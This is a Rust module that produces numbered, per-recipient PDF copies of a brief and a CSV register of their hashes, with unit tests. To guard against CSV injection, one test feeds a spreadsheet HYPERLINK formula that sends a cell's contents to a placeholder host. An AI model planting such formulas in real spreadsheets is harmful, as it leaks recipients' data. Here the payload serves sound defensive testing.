//! Numbered copies for a distribution list: one brief laid out for each recipient, with the
//! copy's number and recipient on every page, and a register of the copies with their hashes.
//!
//! The copies share one Typst environment and one brief's data; only `/copy.json`, which the
//! template reads in the page's foot and background alone, differs between them, so Typst's
//! memoization lays the body out once and each further copy costs little more than its pages'
//! furniture and the PDF export. What one copy memoizes alone is evicted after the next few,
//! and the PDFs wait on disk, not in memory, so that memory stays flat however long the list.
//!
//! The copies and the register appear together or not at all: each copy is written to a
//! temporary file beside its place, and only when every copy is made (and no warning is
//! denied) does the runner rename them all into place with the register, in one step that
//! Ctrl-C and SIGTERM wait for. An interrupted
//! or failed run leaves the folder as it found it (a previous run's copies and register
//! included), never copies without a register or a register naming copies that are not there.

use std::borrow::Cow;
use std::path::PathBuf;
use std::time::Instant;

use sha2::{Digest, Sha256};

use crate::brief::recipients::{self, Recipient};
use crate::compose::coverage;
use crate::diag::Diagnostic;
use crate::error::{Error, Failure};
use crate::fs::{self, Staged};
use crate::run::pipeline::{self, Prepared, Session, Written};
use crate::typeset::compile;
use crate::typeset::copy::{self, Copy};

/// The register's file name, in the output folder.
pub const REGISTER: &str = "copies.csv";

/// How many copies a memoized result may go unused before it is evicted. The body's layout is
/// used by every copy and stays; a copy's own foot and watermark are of no use to the next.
const MAX_AGE: usize = 3;

/// Numbered copies of one brief for the recipients of one list, and where they go.
#[derive(Debug, Clone)]
pub struct Copies {
    pub list: PathBuf,
    pub out_dir: PathBuf,
    /// Set the recipient's name across each page.
    pub watermark: bool,
}

/// One copy issued: a row of the register.
struct Issued {
    number: usize,
    recipient: Recipient,
    file: String,
    sha256: String,
}

/// The copies made, staged with their register, and the warnings met laying them out.
pub struct Made {
    pub staged: Vec<Staged>,
    pub written: Vec<Written>,
    pub warnings: Vec<Diagnostic>,
}

/// The file name of copy `number` of `total`: `belarus-copy-07.pdf`, numbered to as many
/// digits as the last copy has (two at least), so that the files sort in copy order.
pub fn file_name(stem: &str, number: usize, total: usize) -> String {
    let digits = total.to_string().len().max(2);
    format!("{stem}-copy-{number:0digits$}.pdf")
}

/// Makes a prepared brief's copies from its data, one layout per copy (only `/copy.json`
/// differs between them), staged with the register; nothing is in place until the runner puts
/// them there together. Each copy's warnings are the job's (the same warning of every copy
/// once).
pub fn make(
    session: &Session,
    prepared: &Prepared,
    data: &[u8],
    copies: &Copies,
) -> Result<Made, Failure> {
    let recipients = recipients::read(session.files(), &copies.list)?;
    let stem = prepared
        .input
        .file_stem()
        .map(|s| s.to_string_lossy().into_owned())
        .unwrap_or_else(|| "brief".into());
    let total = recipients.len();

    // Nothing is typeset before every output is known to be safe to write.
    let mut protected = prepared.inputs();
    protected.push(copies.list.clone());
    let outputs: Vec<PathBuf> = (1..=total)
        .map(|n| copies.out_dir.join(file_name(&stem, n, total)))
        .chain([copies.out_dir.join(REGISTER)])
        .collect();
    for output in &outputs {
        fs::check_output(output, &protected)?;
    }
    refuse_unprintable(session, &recipients)?;

    let mut made = Made {
        staged: vec![],
        written: vec![],
        warnings: vec![],
    };
    let mut issued = vec![];
    for (i, recipient) in recipients.into_iter().enumerate() {
        let started = Instant::now();
        let number = i + 1;
        let label = recipient.label();
        let this = Copy {
            number,
            total,
            recipient: &label,
            name: &recipient.name,
            watermark: copies.watermark,
        };
        let (bytes, pages, warnings) = one(session, prepared, data, &this)?;
        for warning in warnings {
            if !made.warnings.iter().any(|w| same(w, &warning)) {
                made.warnings.push(warning);
            }
        }
        let output = &outputs[i];
        made.staged.push(fs::stage(output, &bytes)?);
        made.written.push(Written {
            path: output.clone(),
            made: pages,
            elapsed: started.elapsed(),
        });
        issued.push(Issued {
            number,
            recipient,
            file: file_name(&stem, number, total),
            sha256: hex(&Sha256::digest(&bytes)),
        });
    }
    made.staged
        .push(fs::stage(&outputs[total], &register(&issued)?)?);
    Ok(made)
}

/// One copy as a PDF: the copy's details beside the data, its number and recipient in the
/// metadata; with its layout's warnings.
fn one(
    session: &Session,
    prepared: &Prepared,
    data: &[u8],
    this: &Copy<'_>,
) -> Result<(Vec<u8>, pipeline::Made, Vec<Diagnostic>), Failure> {
    let extras = session.extras(prepared, Some(this.to_json()));
    let laid = session.lay_out(prepared, data.to_vec(), &extras);
    // What this copy alone memoized (its foot, its watermark) is of no use to the next.
    compile::evict(MAX_AGE);
    let mut laid = laid?;
    copy::add_keywords(&mut laid.document, &this.keywords());
    let ident = format!("{}:copy-{}", prepared.ident(), this.number);
    let (pdf, made) = session.export(prepared, &laid.document, &ident)?;
    Ok((pdf, made, laid.warnings))
}

/// Two warnings that say the same of the same place (every copy meets the body's).
fn same(a: &Diagnostic, b: &Diagnostic) -> bool {
    a.message == b.message && a.position() == b.position()
}

/// A recipient's name is printed too: the standards refuse a character no font has.
fn refuse_unprintable(session: &Session, recipients: &[Recipient]) -> Result<(), Failure> {
    let refused: Vec<Diagnostic> = recipients
        .iter()
        .enumerate()
        .filter_map(|(i, recipient)| {
            let text = session.uncovered(&recipient.label())?;
            Some(pipeline::refuse(Diagnostic::error(format!(
                "{} in the name of recipient {} ({})",
                coverage::lacking(&text),
                i + 1,
                recipient.label()
            ))))
        })
        .collect();
    if refused.is_empty() {
        Ok(())
    } else {
        Err(Failure::Brief(refused))
    }
}

/// The register as CSV: one line per copy, with the SHA-256 of its PDF so that a copy found
/// later can be told for certain. Its cells are inert in a spreadsheet (see [`cell`]).
fn register(written: &[Issued]) -> Result<Vec<u8>, Error> {
    let mut out = csv::Writer::from_writer(vec![]);
    let failed = |e: csv::Error| Error::message(format!("cannot write the register: {e}"));
    out.write_record(["copy", "name", "organisation", "note", "file", "sha256"])
        .map_err(failed)?;
    for w in written {
        out.write_record([
            w.number.to_string().as_str(),
            &cell(&w.recipient.name),
            &cell(w.recipient.organisation.as_deref().unwrap_or("")),
            &cell(w.recipient.note.as_deref().unwrap_or("")),
            &cell(&w.file),
            &w.sha256,
        ])
        .map_err(failed)?;
    }
    out.into_inner()
        .map_err(|e| Error::message(format!("cannot write the register: {e}")))
}

/// A cell of the register as a spreadsheet will not run it: text that begins with `=`, `+`,
/// `-`, `@`, a tab or a carriage return is a formula to Excel and LibreOffice
/// (`=HYPERLINK(…)` in a recipient's name would be a link that leaks to its address), so it
/// gets a leading `'`, which they take as "this is text" and do not show (OWASP's advice on
/// CSV injection). The copy itself prints the name as written.
fn cell(text: &str) -> Cow<'_, str> {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn file_names_sort_in_copy_order() {
        assert_eq!(file_name("belarus", 7, 50), "belarus-copy-07.pdf");
        assert_eq!(file_name("belarus", 7, 5), "belarus-copy-07.pdf");
        assert_eq!(file_name("belarus", 7, 120), "belarus-copy-007.pdf");
    }

    #[test]
    fn cells_a_spreadsheet_would_run_are_made_text() {
        for start in ["=", "+", "-", "@", "\t", "\r"] {
            let text = format!("{start}HYPERLINK(\"http://x.example/?\"&A1,\"Ann\")");
            assert_eq!(cell(&text), format!("'{text}"), "{start:?}");
        }
        for inert in [
            "Ann",
            "",
            " =1",
            "'=1",
            "Jean-Luc",
            "1+1",
            "ann@example.org",
        ] {
            assert_eq!(cell(inert), inert);
        }
    }

    #[test]
    fn hashes_are_lowercase_hex() {
        assert_eq!(
            hex(&Sha256::digest(b"abc")),
            "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"
        );
    }
}
